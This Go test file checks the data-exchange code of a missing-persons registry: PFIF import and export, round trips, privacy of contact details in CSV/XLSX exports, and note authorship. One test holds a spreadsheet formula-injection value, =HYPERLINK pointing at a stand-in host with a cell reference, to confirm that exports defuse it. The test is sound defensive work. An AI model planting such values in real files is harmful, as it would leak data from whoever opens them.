package exchange

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"strconv"
	"strings"
	"testing"

	"tuys/api/intake"
	"tuys/data"
	"tuys/data/datatest"
	"tuys/exchange/pfif"
)

func readPFIF(t *testing.T, raw []byte) *pfif.Document {
	t.Helper()
	doc, err := pfif.Read(bytes.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	return doc
}

func byRecord(t *testing.T, st data.Store, recordID string) *data.Report {
	t.Helper()
	is, _ := data.Imports(st)
	id, err := is.ReportForRecord(context.Background(), recordID)
	if err != nil {
		t.Fatalf("record %s: %v", recordID, err)
	}
	r, err := st.GetReport(context.Background(), id)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

const pf = "test.personfinder.google.org/"

func TestImportPFIFPersonFinderShape(t *testing.T) {
	ctx := context.Background()
	st := datatest.SQLite(t)
	// An earlier feed had person.1004; the test file's placeholder deletes it.
	earlier := `<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4"><pfif:person><pfif:person_record_id>` + pf +
		`person.1004</pfif:person_record_id><pfif:full_name>Ерлан Жумабаев</pfif:full_name></pfif:person></pfif:pfif>`
	if sum, err := ImportPFIF(ctx, newFiler(st), st, readPFIF(t, []byte(earlier)), PFIFOptions{}); err != nil || sum.Filed != 1 {
		t.Fatalf("earlier feed: %+v %v", sum, err)
	}
	raw, err := os.ReadFile("testdata/personfinder-shape.pfif.xml")
	if err != nil {
		t.Fatal(err)
	}
	sum, err := ImportPFIF(ctx, newFiler(st), st, readPFIF(t, raw), PFIFOptions{Lang: "en"})
	if err != nil {
		t.Fatal(err)
	}
	want := PFIFSummary{Filed: 3, Removed: 1, Notes: 3, Links: 1}
	if sum.Filed != want.Filed || sum.Removed != want.Removed || sum.Notes != want.Notes || sum.Links != want.Links || sum.Rejected != 0 {
		t.Fatalf("summary %+v, want %+v", *sum, want)
	}
	sister, safe, timur := byRecord(t, st, pf+"person.1001"), byRecord(t, st, pf+"person.1002"), byRecord(t, st, pf+"person.1003")
	checks := []struct {
		r                  *data.Report
		name, city, source string
		kind               data.Kind
		year               int
	}{
		{sister, "Aigerim Bekova", "Almaty", "Person Finder (test)", data.KindSeek, 1990},
		{safe, "Айгерим Бекова", "Алматы", "", data.KindSafe, testNow.Year() - 32},
		{timur, "Timur Nurlanov", "Taldykorgan", "", data.KindSeek, 0},
	}
	for _, c := range checks {
		if c.r.FullName != c.name || c.r.City != c.city || c.r.Kind != c.kind || c.r.BirthYear != c.year || c.r.SourceName != c.source ||
			c.r.ContactPhone != "" || c.r.Channel != data.ChannelImport {
			t.Errorf("%s stored as %+v", c.name, c.r)
		}
	}
	if max := testNow.AddDate(0, 0, 360); !sister.ExpiresAt.Equal(max) {
		t.Errorf("expiry 2099 kept as %v, want capped at %v", sister.ExpiresAt, max)
	}
	if safe.LinkedID != sister.ID {
		t.Errorf("linked_person_record_id: %q linked to %q, want %q", safe.FullName, safe.LinkedID, sister.ID)
	}
	if removed := byRecord(t, st, pf+"person.1004"); removed.Status != data.StatusRemoved || removed.FullName != "" {
		t.Errorf("placeholder did not delete: %+v", removed)
	}
	notes, _ := st.ListNotes(ctx, timur.ID)
	if len(notes) != 1 || notes[0].Status != data.NoteBelievedMissing || notes[0].Author != "Hotline volunteer" {
		t.Errorf("note outside its person: %+v", notes)
	}
	if n := len(stored(t, st)); n != 4 { // three persons and the placeholder; the expired record is not filed
		t.Errorf("%d reports stored, want 4", n)
	}
	again, err := ImportPFIF(ctx, newFiler(st), st, readPFIF(t, raw), PFIFOptions{})
	if err != nil || again.Filed != 0 || again.Duplicates != 3 || again.Notes != 0 || again.Links != 0 || again.Removed != 0 {
		t.Fatalf("second import: %+v %v", again, err)
	}
}

// fileAll files reports through intake as the API would, with a note and a link.
func fileAll(t *testing.T, st data.Store) {
	t.Helper()
	ctx := context.Background()
	age := 40
	inputs := []intake.ReportInput{
		{Kind: "seek", Person: intake.PersonInput{FullName: "Жумабаев Ерлан Серикович", BirthYear: 1985, City: "Алматы", Sex: "м",
			Description: "call 8 701 123 45 67"}, Contact: intake.ContactInput{Phone: "87011234567", Name: "Сауле"}},
		{Kind: "safe", Person: intake.PersonInput{FullName: "Ерлан Жумабаев", Age: &age, City: "Алматы", Region: "Алматинская область"}},
		{Kind: "safe", Person: intake.PersonInput{FullName: "Ким Виктор", Sex: "F", Country: "Казахстан"}},
	}
	var ids []string
	for i := range inputs {
		done, fe, err := newFiler(st).File(ctx, &inputs[i], "ru", data.ChannelAPI)
		if err != nil || fe != nil {
			t.Fatal(err, fe)
		}
		ids = append(ids, done.Report.ID)
	}
	if err := st.AddNote(ctx, &data.Note{ReportID: ids[0], Status: data.NoteBelievedAlive, Text: "Видели в школе №12", Author: "волонтёр"}); err != nil {
		t.Fatal(err)
	}
	if err := st.LinkReports(ctx, ids[1], ids[0]); err != nil {
		t.Fatal(err)
	}
}

// publicRecords is what a round trip must keep: each report's public view
// (its id and entry date are each instance's own), its notes, and whom it is linked to.
func publicRecords(t *testing.T, st data.Store) map[string]string {
	t.Helper()
	out := map[string]string{}
	all := stored(t, st)
	byID := map[string]string{}
	for name, r := range all {
		byID[r.ID] = name
	}
	for name, r := range all {
		p := data.Public(r)
		p.LinkedID = byID[r.LinkedID] // ids are each instance's own
		p.ExpiresAt = p.ExpiresAt.Truncate(1e9)
		notes, _ := st.ListNotes(context.Background(), r.ID)
		var ns []string
		for _, n := range notes {
			pn := data.PublicNoteOf(&n)
			ns = append(ns, pn.Status+"|"+pn.Text+"|"+pn.Author)
		}
		out[name] = strings.Join([]string{p.FullName, string(p.Kind), p.GivenName, p.FamilyName, p.Patronymic, p.Sex, p.City, p.Region,
			p.Country, p.Description, p.Status, p.LinkedID, p.ExpiresAt.String(), strings.Join(ns, ";")}, "/") +
			"/" + strconv.Itoa(p.BirthYear) + boolMark(p.YearApprox)
	}
	return out
}

func boolMark(b bool) string {
	if b {
		return "approx"
	}
	return ""
}

func TestPFIFRoundTrip(t *testing.T) {
	ctx := context.Background()
	a, b := datatest.SQLite(t), datatest.SQLite(t)
	fileAll(t, a)
	var out bytes.Buffer
	o := ExportOptions{Domain: "tuys.example.kz", Now: testNow}
	if n, err := ExportPFIF(ctx, a, &out, o); err != nil || n != 3 {
		t.Fatalf("export: %d %v", n, err)
	}
	// the number's own digits, not "701" alone: a record id is random
	// letters and digits, and held "701" once (make test, 2026-12-07)
	if strings.Contains(out.String(), "1234567") || strings.Contains(out.String(), "8 701") || strings.Contains(out.String(), "Сауле") {
		t.Fatalf("public export shows a contact:\n%s", out.String())
	}
	if !strings.Contains(out.String(), "<pfif:person_record_id>tuys.tuys.example.kz/person.") {
		t.Fatalf("record ids not tuys.<domain>/person.<id>:\n%s", out.String())
	}
	sum, err := ImportPFIF(ctx, newFiler(b), b, readPFIF(t, out.Bytes()), PFIFOptions{})
	if err != nil || sum.Filed != 3 || sum.Rejected != 0 {
		t.Fatalf("import of the export: %+v %v", sum, err)
	}
	want, got := publicRecords(t, a), publicRecords(t, b)
	for name, w := range want {
		if got[name] != w {
			t.Errorf("%s:\n got %s\nwant %s", name, got[name], w)
		}
	}
	if len(got) != len(want) {
		t.Errorf("%d records after the round trip, want %d", len(got), len(want))
	}
	// The copy exports the same record ids: a partner sees one person.
	var again bytes.Buffer
	if _, err := ExportPFIF(ctx, b, &again, ExportOptions{Domain: "mirror.example"}); err != nil {
		t.Fatal(err)
	}
	for _, p := range readPFIF(t, out.Bytes()).Persons {
		if !strings.Contains(again.String(), ">"+p.RecordID+"<") {
			t.Errorf("mirror lost record id %s", p.RecordID)
		}
	}
}

func TestExportTables(t *testing.T) {
	ctx := context.Background()
	st := datatest.SQLite(t)
	fileAll(t, st)
	for _, format := range []string{"csv", "xlsx"} {
		for _, contacts := range []bool{false, true} {
			var buf bytes.Buffer
			write := map[string]func(context.Context, data.Store, *bytes.Buffer, ExportOptions) (int, error){
				"csv": func(c context.Context, s data.Store, w *bytes.Buffer, o ExportOptions) (int, error) {
					return ExportCSV(c, s, w, o)
				},
				"xlsx": func(c context.Context, s data.Store, w *bytes.Buffer, o ExportOptions) (int, error) {
					return ExportXLSX(c, s, w, o)
				},
			}[format]
			n, err := write(ctx, st, &buf, ExportOptions{Contacts: contacts})
			if err != nil || n != 3 {
				t.Fatalf("%s: %d %v", format, n, err)
			}
			tbl, err := ReadTable(bytes.NewReader(buf.Bytes()))
			if err != nil || len(tbl.Rows) != 4 {
				t.Fatalf("%s: read back %v rows %v", format, tbl, err)
			}
			text := strings.Join(flatten(tbl.Rows), "|")
			if hasPhone := strings.Contains(text, "+77011234567"); hasPhone != contacts {
				t.Errorf("%s contacts=%v: phone shown %v", format, contacts, hasPhone)
			}
			if !strings.Contains(text, "Жумабаев Ерлан Серикович") || strings.Contains(text, "8 701 123") {
				t.Errorf("%s: public fields wrong: %s", format, text)
			}
		}
	}
}

func flatten(rows [][]string) []string {
	var out []string
	for _, r := range rows {
		out = append(out, r...)
	}
	return out
}

func FuzzReadPFIF(f *testing.F) {
	raw, _ := os.ReadFile("testdata/personfinder-shape.pfif.xml")
	f.Add(raw)
	f.Add([]byte(`<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4"><pfif:note/></pfif:pfif>`))
	f.Fuzz(func(t *testing.T, b []byte) {
		doc, err := pfif.Read(bytes.NewReader(b))
		if err != nil {
			return
		}
		var out bytes.Buffer
		w := pfif.NewWriter(&out)
		for i := range doc.Persons {
			w.Person(&doc.Persons[i])
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		back, err := pfif.Read(&out)
		if err != nil || len(back.Persons) != len(doc.Persons) {
			t.Fatalf("rewritten PFIF does not read back: %v", err)
		}
	})
}

// A partner mirror posts our own records back: nothing is filed twice, and
// its copy of our notes and links adds nothing.
func TestPFIFOwnRecordsComeBack(t *testing.T) {
	ctx := context.Background()
	st := datatest.SQLite(t)
	fileAll(t, st)
	var out bytes.Buffer
	o := ExportOptions{Domain: "tuys.example.kz", Now: testNow}
	if _, err := ExportPFIF(ctx, st, &out, o); err != nil {
		t.Fatal(err)
	}
	before := publicRecords(t, st)
	sum, err := ImportPFIF(ctx, newFiler(st), st, readPFIF(t, out.Bytes()), PFIFOptions{Domain: "tuys.example.kz"})
	if err != nil || sum.Filed != 0 || sum.Duplicates != 3 || sum.Notes != 0 || sum.Links != 0 || sum.Removed != 0 {
		t.Fatalf("own records back: %+v %v", sum, err)
	}
	after := publicRecords(t, st)
	for name, w := range before {
		if after[name] != w {
			t.Errorf("%s changed:\n got %s\nwant %s", name, after[name], w)
		}
	}
	// Another instance's domain is a partner's record: filed once.
	other := datatest.SQLite(t)
	if sum, err := ImportPFIF(ctx, newFiler(other), other, readPFIF(t, out.Bytes()), PFIFOptions{Domain: "mirror.example"}); err != nil || sum.Filed != 3 {
		t.Fatalf("into another instance: %+v %v", sum, err)
	}
}

// A note by a volunteer or by the report's own author goes to partners
// signed by this tuys, never with the login or the contact's name.
func TestExportedNoteAuthors(t *testing.T) {
	o := ExportOptions{Domain: "tuys.example.kz"}
	for _, c := range []struct {
		by         data.NoteBy
		author, as string
	}{
		{data.NoteByPublic, "Асель", "Асель"},
		{data.NoteByVolunteer, "aigerim", "tuys.tuys.example.kz"},
		{data.NoteByReportAuthor, "", "tuys.tuys.example.kz"},
	} {
		n := o.toNote(&data.Note{ID: "n1", ReportID: "r1", Text: "x", Author: c.author, By: c.by}, "p1")
		if n.AuthorName != c.as {
			t.Errorf("a note by %q (%s) exported as by %q, want %q", c.by, c.author, n.AuthorName, c.as)
		}
	}
}

// A cell a spreadsheet would run as a formula is exported as text, and
// reads back as typed.
func TestCSVExportDefusesFormulas(t *testing.T) {
	ctx := context.Background()
	st := datatest.SQLite(t)
	in := intake.ReportInput{Kind: "safe", Person: intake.PersonInput{FullName: "Ерлан Жумабаев", City: `=HYPERLINK("http://x.example/?"&R2)`, Description: "+1+1 -2 @SUM(A1)"}}
	if _, fe, err := newFiler(st).File(ctx, &in, "ru", data.ChannelAPI); err != nil || fe != nil {
		t.Fatal(err, fe)
	}
	var buf bytes.Buffer
	if _, err := ExportCSV(ctx, st, &buf, ExportOptions{}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff"))).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, cell := range rows[1] {
		if cell != "" && strings.ContainsRune(formulaStarts, rune(cell[0])) {
			t.Errorf("cell %q starts a formula", cell)
		}
	}
	tbl, err := ReadTable(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	other := datatest.SQLite(t)
	is, _ := data.Imports(other)
	if sum, err := ImportTable(ctx, newFiler(other), is, tbl, Options{Kind: "safe", Source: "partner", Lang: "ru"}); err != nil || sum.Filed != 1 {
		t.Fatalf("import: %+v %v", sum, err)
	}
	want := map[string]string{}
	for _, r := range stored(t, st) {
		p := data.Public(r)
		want[p.FullName] = p.City + "|" + p.Description
	}
	for _, r := range stored(t, other) {
		p := data.Public(r)
		if got := p.City + "|" + p.Description; got != want[p.FullName] || strings.HasPrefix(p.City, "'") {
			t.Errorf("read back %q, exported %q", got, want[p.FullName])
		}
	}
}
